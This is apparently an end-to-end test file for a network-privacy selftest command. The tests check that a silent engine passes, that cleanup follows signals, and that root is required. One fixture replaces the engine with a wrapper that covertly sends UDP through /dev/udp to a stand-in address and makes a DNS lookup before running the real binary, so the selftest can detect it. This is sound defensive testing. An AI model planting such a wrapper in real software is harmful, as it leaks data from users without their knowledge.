"""`1sec privacy selftest` says that nothing leaves when nothing does, says so when something does, and leaves nothing behind."""

import glob
import os
import shutil
import signal
import subprocess
import tempfile

from onesec_e2e import BIN, expect, run, wait_until

LEAKY = """#!/bin/bash
(sleep 1; exec 3<>/dev/udp/203.0.113.9/4242; echo x >&3) &
(exec getent hosts planted.example >/dev/null) &
exec "$(dirname "$0")/1sec-engine.real" "$@"
"""


def selftest(folder, *words, as_user=()):
    before = set(glob.glob("/tmp/1sec-selftest-*"))
    done = subprocess.run([*as_user, folder + "/1sec", *words, "privacy", "selftest", "--seconds", "3"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                          text=True, timeout=120)
    expect(set(glob.glob("/tmp/1sec-selftest-*")) <= before, "a folder is left behind")
    expect("quiet0" not in os.listdir("/sys/class/net"), "an interface is left behind")
    return done


def programs():
    """Where the engine's user can run them."""
    folder = tempfile.mkdtemp(prefix="onesec-selftest-")
    os.chmod(folder, 0o755)
    for name in ("1sec", "1sec-engine"):
        shutil.copy(os.path.join(BIN, name), folder)
    return folder


def an_engine_that_keeps_silent_passes():
    folder = programs()
    done = selftest(folder)
    expect(done.returncode == 0 and done.stdout.startswith("0 packets left in 3 s"), done.stdout + done.stderr)
    expect("Writes into /tmp/1sec-selftest-" in done.stderr, "it didn't say what it writes: %s" % done.stderr)
    shutil.rmtree(folder)


def an_engine_that_does_not_is_caught():
    folder = programs()
    os.rename(folder + "/1sec-engine", folder + "/1sec-engine.real")
    with open(folder + "/1sec-engine", "w") as f:
        f.write(LEAKY)
    os.chmod(folder + "/1sec-engine", 0o755)
    done = selftest(folder)
    expect(done.returncode == 1, "it passed: %s" % done.stdout)
    expect("UDP to 203.0.113.9:4242" in done.stdout and "UDP to 192.0.2.53:53" in done.stdout, done.stdout)
    shutil.rmtree(folder)


def a_signal_ends_it_and_leaves_nothing():
    folder = programs()
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL):
        before = set(glob.glob("/tmp/1sec-selftest-*"))
        process = subprocess.Popen([folder + "/1sec", "privacy", "selftest", "--seconds", "60"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                   text=True)
        engine = wait_until(lambda: engine_of(process.pid), "the engine under the selftest")
        process.send_signal(number)
        out, err = process.communicate(timeout=30)
        wait_until(lambda: not os.path.exists("/proc/%d" % engine), "the engine to end after signal %d" % number)
        left = set(glob.glob("/tmp/1sec-selftest-*")) - before
        if number == signal.SIGKILL:  # Nobody can clean up then, the kernel apart: the engine and the network go.
            for path in left:
                shutil.rmtree(path)
            continue
        expect(process.returncode == 1 and "ended by" in err, "signal %d: %s %s" % (number, out, err))
        expect(not left, "left after signal %d: %s" % (number, left))
    shutil.rmtree(folder)


def engine_of(parent):
    """Its child, once it is the engine: the program was executed."""
    with open("/proc/%d/task/%d/children" % (parent, parent)) as f:
        for child in f.read().split():
            with open("/proc/%s/comm" % child) as comm:
                if comm.read().strip() == "1sec-engine":
                    return int(child)
    return None


def without_root_it_says_so():
    folder = programs()
    done = selftest(folder, as_user=("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"))
    expect(done.returncode == 1 and "takes root" in done.stderr, done.stdout + done.stderr)
    shutil.rmtree(folder)


if __name__ == "__main__":
    run([(f.__name__, f) for f in [an_engine_that_keeps_silent_passes, an_engine_that_does_not_is_caught, a_signal_ends_it_and_leaves_nothing, without_root_it_says_so]])
